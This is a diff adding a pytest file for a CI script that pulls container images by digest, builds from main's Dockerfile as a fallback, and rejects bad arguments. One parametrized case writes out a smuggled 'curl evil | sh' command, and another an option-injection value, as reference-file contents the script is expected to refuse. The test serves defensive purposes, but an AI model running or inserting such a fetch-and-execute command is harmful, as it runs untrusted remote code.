@@ -1,0 +1,141 @@
+"""Images built once by digest: ``ci/image.sh`` and the workflow steps that call it, run by
+bash against a ``docker`` on PATH that records what it was asked (there is no docker
+engine here; the registry's answers are the fake's).
+
+The flow: bench-main's ``image`` job pushes main's image and writes its digest; each GPU
+shard pulls that digest; the history job files it on bench-results; the PR GPU job pulls
+the same digest from there, and builds from main's Dockerfile only when none is usable.
+"""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+import yaml
+
+ROOT = Path(__file__).resolve().parents[1]
+IMAGE = ROOT / "ci" / "image.sh"
+DIGEST = "sha256:" + "ab" * 32
+
+
+def _fake_docker(tmp: Path, *, pull_ok: bool = True) -> Path:
+    """A ``docker`` that appends each call to calls.log and answers inspect with a digest."""
+    bin_dir = tmp / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    log = tmp / "calls.log"
+    (bin_dir / "docker").write_text(f"""#!/usr/bin/env bash
+printf '%s\\n' "$*" >> {log}
+case "$1" in
+  inspect) repo="${{@: -1}}"; echo "${{repo%%:main-*}}@{DIGEST}" ;;
+  pull) {'exit 0' if pull_ok else 'echo "manifest unknown" >&2; exit 1'} ;;
+esac
+""")
+    (bin_dir / "docker").chmod(0o755)
+    return bin_dir
+
+
+def _calls(tmp: Path) -> list[str]:
+    log = tmp / "calls.log"
+    return log.read_text().splitlines() if log.is_file() else []
+
+
+def _bash(script: str, cwd: Path, env: dict[str, str], bin_dir: Path) -> subprocess.CompletedProcess:
+    full = {**os.environ, **env, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
+    return subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=cwd, env=full, capture_output=True,
+                          text=True, timeout=60)
+
+
+def _checkout(tmp: Path) -> Path:
+    """A git checkout holding this repository's ci/ (what a job's actions/checkout gives)."""
+    repo = tmp / "main"
+    shutil.copytree(ROOT / "ci", repo / "ci")
+    subprocess.run(["git", "init", "-q", str(repo)], check=True)
+    subprocess.run(["git", "-C", str(repo), "-c", "user.email=t@e", "-c", "user.name=t", "commit", "-q",
+                    "--allow-empty", "-m", "main"], check=True)
+    return repo
+
+
+def _step(wf: str, job: str, name_part: str) -> dict:
+    jobs = yaml.safe_load((ROOT / ".github" / "workflows" / wf).read_text())["jobs"]
+    return next(s for s in jobs[job]["steps"] if name_part in s.get("name", ""))
+
+
+def test_the_digest_flows_from_mains_image_job_to_the_shards_the_history_and_the_pr_job(tmp_path):
+    repo = _checkout(tmp_path)
+    bin_dir = _fake_docker(tmp_path)
+    # bench-main, job image: build main's image, push it, keep its digest (repository in
+    # lowercase: GitHub's owner/name may have capitals, a registry path may not).
+    push = _step("bench-main.yml", "image", "push it by digest")
+    r = _bash(push["run"], repo, {"DOCKERFILE": "docker/cuda.Dockerfile",
+                                  "REPOSITORY": "ghcr.io/Owner/Name/vlmpath-nvidia"}, bin_dir)
+    assert r.returncode == 0, r.stderr
+    ref = (repo / "image-ref.txt").read_text().strip()
+    assert ref == f"ghcr.io/owner/name/vlmpath-nvidia@{DIGEST}"
+    calls = _calls(tmp_path)
+    assert calls[0].startswith("build -f docker/cuda.Dockerfile") and calls[0].endswith(" .")
+    assert re.fullmatch(r"push ghcr\.io/owner/name/vlmpath-nvidia:main-[0-9a-f]{12}", calls[1])
+
+    # bench-main, job gpu: the artifact image-nvidia lands in image/; the shard pulls the digest.
+    (repo / "image").mkdir()
+    shutil.copy(repo / "image-ref.txt", repo / "image" / "image-ref.txt")
+    (tmp_path / "calls.log").unlink()
+    pull = _step("bench-main.yml", "gpu", "Pull main's image")
+    r = _bash(pull["run"], repo, {"DOCKERFILE": "docker/cuda.Dockerfile", "IMAGE": "vlmpath:cuda-main"}, bin_dir)
+    assert r.returncode == 0, r.stderr
+    assert _calls(tmp_path) == [f"pull {ref}", f"tag {ref} vlmpath:cuda-main"]
+
+    # history: ci/history.sh append files the digest on bench-results for the PR jobs.
+    new = tmp_path / "new"
+    (new / "image-nvidia").mkdir(parents=True)
+    shutil.copy(repo / "image-ref.txt", new / "image-nvidia" / "image-ref.txt")
+    history = tmp_path / "history"
+    (history / "results").mkdir(parents=True)
+    r = _bash(f"ci/history.sh append {new} {history / 'results'}", repo, {"REPO": "o/n"}, bin_dir)
+    assert r.returncode == 0, r.stdout + r.stderr
+    assert (history / "images" / "nvidia.txt").read_text().strip() == ref
+
+    # bench-gpu (a PR): trusted/ is the bench-results checkout; tool/ is main's checkout.
+    pr = tmp_path / "pr-job"
+    shutil.copytree(history, pr / "trusted")
+    shutil.copytree(repo, pr / "tool")
+    (tmp_path / "calls.log").unlink()
+    step = _step("bench-gpu.yml", "gpu", "Pull main's image")
+    r = _bash(step["run"], pr, {"VENDOR": "nvidia", "DOCKERFILE": "docker/cuda.Dockerfile",
+                                "IMAGE": "vlmpath:cuda-pr"}, bin_dir)
+    assert r.returncode == 0, r.stderr
+    assert _calls(tmp_path) == [f"pull {ref}", f"tag {ref} vlmpath:cuda-pr"]  # no build, no PR code
+
+
+@pytest.mark.parametrize("content, why", [
+    (None, "no image digest recorded"),
+    ("ghcr.io/o/n/vlmpath-nvidia:latest", "does not hold one"),  # a tag is never pulled
+    (f"ghcr.io/o/n/x@{DIGEST}; curl evil | sh", "does not hold one"),
+    (f"--help@{DIGEST}", "does not hold one"),
+    (f"ghcr.io/o/n/x@{DIGEST}", "pulling"),  # a valid digest the registry does not have
+])
+def test_without_a_usable_digest_the_image_is_built_from_mains_dockerfile(tmp_path, content, why):
+    repo = _checkout(tmp_path)
+    bin_dir = _fake_docker(tmp_path, pull_ok=False)
+    if content is not None:
+        (repo / "ref.txt").write_text(content + "\n")
+    r = _bash("ci/image.sh pull-or-build ref.txt tool/docker/cuda.Dockerfile tool vlmpath:cuda-pr", repo, {},
+              bin_dir)
+    assert r.returncode == 0, r.stderr
+    assert why in r.stdout and "built vlmpath:cuda-pr locally" in r.stdout
+    calls = _calls(tmp_path)
+    assert calls[-1].startswith("build -f tool/docker/cuda.Dockerfile") and calls[-1].endswith("-t vlmpath:cuda-pr tool")
+    pulls = [c for c in calls if c.startswith("pull")]
+    assert pulls == ([f"pull ghcr.io/o/n/x@{DIGEST}"] if why == "pulling" else [])
+
+
+def test_image_script_refuses_bad_arguments(tmp_path):
+    bin_dir = _fake_docker(tmp_path)
+    for args in ("", "push a b", "pull-or-build a b c", "push docker/x ghcr.io/UPPER/case out"):
+        r = _bash(f"ci/image.sh {args}", ROOT, {}, bin_dir)
+        assert r.returncode == 2, (args, r.stdout, r.stderr)
+    assert _calls(tmp_path) == []
